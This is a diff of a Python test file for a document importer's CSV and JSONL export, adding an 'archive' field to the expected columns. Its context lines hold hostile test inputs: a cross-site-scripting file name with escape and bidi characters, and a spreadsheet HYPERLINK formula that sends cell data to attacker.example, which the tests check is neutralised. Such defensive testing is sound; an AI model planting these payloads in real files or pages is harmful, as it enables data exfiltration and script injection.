@@ -39,7 +39,7 @@ HOSTILE = f"<script>alert(1)<b>&amp;\"q'<img src=x onerror=alert(2)>\u202eevil{E
 HOSTILE_SHOWN = "<script>alert(1)<b>&amp;\"q'<img src=x onerror=alert(2)>\\u202eevil\\x1b[2J.pdf"
 FORMULA = '=HYPERLINK("http://attacker.example/?d="&A1,"Open")'
 CSV_HEADER = [
-    *("batch_id", "path", "sha256", "status", "pages", "text", "error", "job_id"),
+    *("batch_id", "path", "sha256", "status", "pages", "text", "error", "job_id", "archive"),
     *("pages_text_layer", "pages_ocr", "mean_confidence", "pages_review", "attempts", "seconds"),
 ]
 # what the templates write: anything else in the parsed tree came from outside
@@ -210,7 +210,7 @@ def check_export(env: dict[str, str], batch: str, docs: dict[str, Document]) -> 
     assert rows["formula.pdf"]["text"].startswith("'" + FORMULA)  # shown as text, not run
 
     jsonl = importer("export", batch, "--format", "jsonl", env=env, check=True).stdout
-    keys = {"batch_id", "path", "sha256", "status", "pages", "text", "error", "job_id"}
+    keys = {"batch_id", "path", "sha256", "status", "pages", "text", "error", "job_id", "archive"}
     assert all(set(json.loads(line)) == keys for line in jsonl.splitlines())
     texts = {Path(r["path"]).name: r["text"] for r in map(json.loads, jsonl.splitlines())}
     assert texts["formula.pdf"].startswith(FORMULA)  # JSON is no spreadsheet: kept as read
